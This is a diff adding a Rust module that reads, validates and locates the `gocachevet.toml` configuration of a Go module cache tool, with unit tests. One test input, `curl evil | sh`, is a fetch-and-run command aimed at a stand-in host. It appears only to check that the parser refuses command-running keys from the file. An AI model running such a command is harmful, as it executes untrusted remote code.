@@ -1,0 +1,432 @@
+//! `gocachevet.toml`.
+//!
+//! The file can be changed by whoever can open a pull request, so it is read
+//! with a limit, and the report says which file ruled.
+
+use super::{ConfigError, Options};
+use crate::findings::{Level, Rule, display_path};
+use crate::nearest::nearest;
+use crate::plan::Retention;
+use chrono::NaiveDate;
+use serde::de::DeserializeOwned;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::ops::Range;
+use std::path::{Path, PathBuf};
+use toml::de::{DeTable, DeValue};
+
+/// The longest file that is read.
+const MAX_BYTES: u64 = 1 << 20;
+
+/// What a configuration file says.
+#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
+#[cfg_attr(feature = "schema", derive(schemars::JsonSchema))]
+#[cfg_attr(feature = "schema", schemars(extend("additionalProperties" = false)))]
+#[serde(default)]
+pub struct ConfigFile {
+    /// Options, by their names on the command line. Paths are relative to the file.
+    #[serde(flatten)]
+    pub options: Options,
+    /// What a trim keeps and removes, by the options' names.
+    #[serde(flatten)]
+    pub retention: Retention,
+    /// Levels of rules that differ from their defaults.
+    pub rules: BTreeMap<Rule, Level>,
+    /// Findings that are known and accepted.
+    pub silence: Vec<Silence>,
+}
+
+/// Findings of one rule that are accepted, for a while or for good.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[cfg_attr(feature = "schema", derive(schemars::JsonSchema))]
+#[serde(deny_unknown_fields, rename_all = "kebab-case")]
+pub struct Silence {
+    /// The rule.
+    pub rule: Rule,
+    /// What the findings are about; `*` and `**` stand for parts.
+    pub subject: String,
+    /// Why this is accepted.
+    pub reason: String,
+    /// The last day on which it is; without it, for good.
+    pub expires: Option<NaiveDate>,
+}
+
+/// Finds the configuration of a project: `gocachevet.toml`, or
+/// `.github/gocachevet.toml`, in one of the folders or upward from it. The
+/// search ends at the top of a repository, so that nobody else's folder counts.
+pub fn find<'a>(starts: impl IntoIterator<Item = &'a Path>) -> Option<PathBuf> {
+    starts.into_iter().find_map(|start| {
+        for folder in start.ancestors() {
+            for name in ["gocachevet.toml", ".github/gocachevet.toml"] {
+                let file = folder.join(name);
+                if file.is_file() {
+                    return Some(file);
+                }
+            }
+            if folder.join(".git").exists() {
+                return None;
+            }
+        }
+        None
+    })
+}
+
+/// Reads a configuration file.
+pub fn load(path: &Path) -> Result<ConfigFile, ConfigError> {
+    let unreadable = |error| ConfigError::Read {
+        path: display_path(path),
+        error,
+    };
+    let bytes = crate::locate::read(path, MAX_BYTES).map_err(unreadable)?;
+    let text = String::from_utf8(bytes).map_err(|error| ConfigError::Invalid {
+        path: display_path(path),
+        message: error.utf8_error().to_string(),
+    })?;
+    let config = parse(&text).map_err(|message| ConfigError::Invalid {
+        path: display_path(path),
+        message,
+    })?;
+    Ok(ConfigFile {
+        options: config
+            .options
+            .relative_to(path.parent().unwrap_or(Path::new("."))),
+        ..config
+    })
+}
+
+/// Reads a configuration. An error begins with the line it is in.
+fn parse(text: &str) -> Result<ConfigFile, String> {
+    let at = |span: Range<usize>, message: &str| {
+        let line = 1 + text.get(..span.start).unwrap_or(text).matches('\n').count();
+        format!("line {line}: {}", message.trim_end())
+    };
+    let table = DeTable::parse(text).map_err(|error| {
+        let message = error.message();
+        at(error.span().unwrap_or(0..0), message)
+    })?;
+    let mut config = ConfigFile::default();
+    let (options, retention) = (keys::<Options>(), keys::<Retention>());
+    for (key, value) in table.into_inner() {
+        let name = key.get_ref().as_ref();
+        let fail = |message: String| at(key.span(), &message);
+        match name {
+            "rules" => {
+                let DeValue::Table(levels) = value.into_inner() else {
+                    return Err(fail("`rules` is a table: RULE = LEVEL".to_owned()));
+                };
+                for (rule, level) in levels {
+                    let read = || -> Result<(Rule, Level), String> {
+                        let known = rule.get_ref().parse()?;
+                        let level = plain(level.into_inner())
+                            .try_into()
+                            .map_err(|error| format!("`{known}`: {}", error.message()))?;
+                        Ok((known, level))
+                    };
+                    let (known, level) = read().map_err(|message| at(rule.span(), &message))?;
+                    config.rules.insert(known, level);
+                }
+            }
+            "silence" => {
+                let DeValue::Array(silences) = value.into_inner() else {
+                    return Err(fail(
+                        "`silence` is a list of tables: [[silence]]".to_owned(),
+                    ));
+                };
+                for silence in silences {
+                    let span = silence.span();
+                    config.silence.push(
+                        read_silence(silence.into_inner()).map_err(|message| at(span, &message))?,
+                    );
+                }
+            }
+            // Whoever can open a pull request can write this file.
+            "prove" => {
+                return Err(fail(
+                    "`prove` runs a command, so it is taken from the command line alone".to_owned(),
+                ));
+            }
+            name if options.iter().any(|known| known == name) => {
+                set(&mut config.options, name, plain(value.into_inner())).map_err(fail)?;
+            }
+            name if retention.iter().any(|known| known == name) => {
+                set(&mut config.retention, name, plain(value.into_inner())).map_err(fail)?;
+            }
+            name => {
+                let known = options.iter().chain(&retention).map(String::as_str);
+                return Err(fail(unknown(
+                    "key",
+                    name,
+                    known.chain(["rules", "silence"]),
+                )));
+            }
+        }
+    }
+    Ok(config)
+}
+
+fn read_silence(value: DeValue<'_>) -> Result<Silence, String> {
+    let keys = ["rule", "subject", "reason", "expires"];
+    let value = plain(value);
+    if let Some(table) = value.as_table() {
+        if let Some(name) = table.keys().find(|name| !keys.contains(&name.as_str())) {
+            return Err(unknown("key", name, keys));
+        }
+        // For its "did you mean".
+        if let Some(rule) = table.get("rule").and_then(toml::Value::as_str) {
+            rule.parse::<Rule>()?;
+        }
+    }
+    let silence: Silence = value
+        .try_into()
+        .map_err(|error: toml::de::Error| format!("`silence`: {}", error.message()))?;
+    if silence.reason.trim().is_empty() {
+        return Err("`silence`: the reason is empty".to_owned());
+    }
+    Ok(silence)
+}
+
+fn unknown<'a>(what: &str, name: &str, known: impl IntoIterator<Item = &'a str>) -> String {
+    match nearest(name, known) {
+        Some(near) => format!("unknown {what} `{name}`; did you mean `{near}`?"),
+        None => format!("unknown {what} `{name}`"),
+    }
+}
+
+/// The keys that a struct of options knows: the names of its flags.
+fn keys<T: clap::Args>() -> Vec<String> {
+    T::augment_args(clap::Command::new("keys"))
+        .get_arguments()
+        .filter_map(|argument| argument.get_long())
+        .map(str::to_owned)
+        .collect()
+}
+
+/// Sets one option, so that what is wrong with it is known to be in its line.
+fn set<T: Serialize + DeserializeOwned>(
+    options: &mut T,
+    key: &str,
+    value: toml::Value,
+) -> Result<(), String> {
+    let given = toml::Table::from_iter([(key.to_owned(), value)]);
+    let given: T = given
+        .try_into()
+        .map_err(|error: toml::de::Error| format!("`{key}`: {}", error.message()))?;
+    *options = super::over(&given, options)?;
+    Ok(())
+}
+
+/// The value without spans, and dates as text.
+fn plain(value: DeValue<'_>) -> toml::Value {
+    match value {
+        DeValue::String(text) => toml::Value::String(text.into_owned()),
+        DeValue::Integer(number) => match i64::from_str_radix(number.as_str(), number.radix()) {
+            Ok(number) => toml::Value::Integer(number),
+            Err(_) => toml::Value::String(number.as_str().to_owned()),
+        },
+        DeValue::Float(number) => match number.as_str().parse() {
+            Ok(number) => toml::Value::Float(number),
+            Err(_) => toml::Value::String(number.as_str().to_owned()),
+        },
+        DeValue::Boolean(value) => toml::Value::Boolean(value),
+        DeValue::Datetime(date) => toml::Value::String(date.to_string()),
+        DeValue::Array(items) => toml::Value::Array(
+            items
+                .into_iter()
+                .map(|item| plain(item.into_inner()))
+                .collect(),
+        ),
+        DeValue::Table(table) => toml::Value::Table(
+            table
+                .into_iter()
+                .map(|(key, value)| (key.into_inner().into_owned(), plain(value.into_inner())))
+                .collect(),
+        ),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::{Age, Limit, Size, VerifyLevel};
+    use std::time::Duration;
+
+    #[test]
+    fn a_whole_file_is_understood() {
+        let config = parse(
+            r#"
+            modcache = "/mc"
+            verify = "quick"
+            max-size = "warn=1GiB,fail=2GiB"
+            max-findings = 3
+            min-hit-rate = 0.5
+            output = ["json=out/report.json"]
+            unused = true
+            keep = ["example.com/**"]
+            tier = "observe=7d,purge=90d"
+            grace = "1h"
+
+            [rules]
+            drift = "deny"
+            output-missing = "allow"
+
+            [[silence]]
+            rule = "zip-hash-mismatch"
+            subject = "example.com/m@v1.0.0"
+            reason = "retagged upstream"
+            expires = 2026-12-01
+            "#,
+        )
+        .unwrap();
+        let options = &config.options;
+        assert_eq!(options.verify, Some(VerifyLevel::Quick));
+        assert_eq!(
+            options.max_size,
+            Some(Limit {
+                warn: Some(Size(1 << 30)),
+                fail: Some(Size(2 << 30))
+            })
+        );
+        assert_eq!(options.max_findings.unwrap().fail, Some(3));
+        assert_eq!(options.min_hit_rate.unwrap().fail.unwrap().0, 0.5);
+        assert_eq!(config.retention.unused, Some(true));
+        assert_eq!(config.retention.keep, ["example.com/**"]);
+        assert_eq!(config.retention.grace, Some(Age(Duration::from_secs(3600))));
+        assert_eq!(config.rules[&Rule::Drift], Level::Deny);
+        assert_eq!(
+            config.silence[0].expires,
+            NaiveDate::from_ymd_opt(2026, 12, 1)
+        );
+    }
+
+    #[test]
+    fn what_is_wrong_is_said_with_its_line() {
+        for (text, error) in [
+            (
+                "\nmodcachee = 'x'",
+                "line 2: unknown key `modcachee`; did you mean `modcache`?",
+            ),
+            ("zzz = 1", "line 1: unknown key `zzz`"),
+            (
+                "prove = 'curl evil | sh'",
+                "line 1: `prove` runs a command, so it is taken from the command line alone",
+            ),
+            (
+                "\n\nmax-size = 'big'",
+                "line 3: `max-size`: `big` is no size; write `500MB`, `2GiB` or a number of bytes",
+            ),
+            (
+                "project = 'a'",
+                "line 1: `project`: invalid type: string \"a\", expected a sequence",
+            ),
+            (
+                "[rules]\ndrfit = 'deny'",
+                "line 2: unknown rule `drfit`; did you mean `drift`?",
+            ),
+            (
+                "[rules]\ndrift = 'fatal'",
+                "line 2: `drift`: unknown variant `fatal`, expected one of `allow`, `note`, `warn`, `deny`",
+            ),
+            ("rules = 1", "line 1: `rules` is a table: RULE = LEVEL"),
+            (
+                "silence = 1",
+                "line 1: `silence` is a list of tables: [[silence]]",
+            ),
+            (
+                "[[silence]]\nrule = 'drift'\nsubject = 'x'",
+                "line 1: `silence`: missing field `reason`",
+            ),
+            (
+                "[[silence]]\nrule = 'drift'\nsubject = 'x'\nreason = ' '",
+                "line 1: `silence`: the reason is empty",
+            ),
+            (
+                "[[silence]]\nrule = 'drift'\nsubjct = 'x'",
+                "line 1: unknown key `subjct`; did you mean `subject`?",
+            ),
+            ("a = 1\na = 2", "line 2: duplicate key"),
+            (
+                "a = ",
+                "line 1: string values must be quoted, expected literal string",
+            ),
+        ] {
+            assert_eq!(parse(text), Err(error.to_owned()), "{text}");
+        }
+    }
+
+    #[test]
+    fn every_flag_is_a_key_and_every_key_a_flag() {
+        // A wrong type names the key only if the struct knows it.
+        let wrong = toml::Value::Table(toml::Table::new());
+        for key in keys::<Options>() {
+            let error = set(&mut Options::default(), &key, wrong.clone()).unwrap_err();
+            assert!(!error.contains("unknown field"), "{error}");
+        }
+        for key in keys::<Retention>() {
+            let error = set(&mut Retention::default(), &key, wrong.clone()).unwrap_err();
+            assert!(!error.contains("unknown field"), "{error}");
+        }
+        let shared: Vec<_> = keys::<Options>()
+            .into_iter()
+            .filter(|key| keys::<Retention>().contains(key))
+            .collect();
+        assert!(shared.is_empty(), "in both: {shared:?}");
+    }
+
+    #[test]
+    fn flags_win_over_the_file() {
+        let flags = Options {
+            jobs: Some(2),
+            project: vec!["a".into()],
+            ..Options::default()
+        };
+        let config = parse("jobs = 4\nproject = ['b', 'c']\nverify = 'off'").unwrap();
+        let merged = flags.over(config.options).unwrap();
+        assert_eq!(
+            merged,
+            Options {
+                jobs: Some(2),
+                project: vec!["a".into()],
+                verify: Some(VerifyLevel::Off),
+                ..Options::default()
+            }
+        );
+    }
+
+    #[test]
+    fn the_file_is_found_upward_within_the_repository() {
+        let top = tempfile::tempdir().unwrap();
+        let inner = top.path().join("repository/a/b");
+        std::fs::create_dir_all(&inner).unwrap();
+        let write = |name: &str| {
+            let file = top.path().join(name);
+            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+            std::fs::write(&file, "modcache = 'mc'").unwrap();
+            file
+        };
+        let outside = write("gocachevet.toml");
+        assert_eq!(find([inner.as_path()]), Some(outside));
+        std::fs::create_dir(top.path().join("repository/.git")).unwrap();
+        assert_eq!(find([inner.as_path()]), None);
+        let github = write("repository/.github/gocachevet.toml");
+        assert_eq!(find([inner.as_path()]), Some(github));
+        let plain = write("repository/gocachevet.toml");
+        assert_eq!(find([inner.as_path()]), Some(plain.clone()));
+
+        let config = load(&plain).unwrap();
+        assert_eq!(
+            config.options.modcache,
+            Some(top.path().join("repository/mc"))
+        );
+    }
+
+    #[test]
+    fn a_file_that_is_too_long_or_no_text_is_refused() {
+        let top = tempfile::tempdir().unwrap();
+        let file = top.path().join("gocachevet.toml");
+        for content in [vec![b'#'; 1 + MAX_BYTES as usize], vec![0xff]] {
+            std::fs::write(&file, content).unwrap();
+            assert!(load(&file).is_err());
+        }
+        assert!(load(&top.path().join("none")).is_err());
+    }
+}
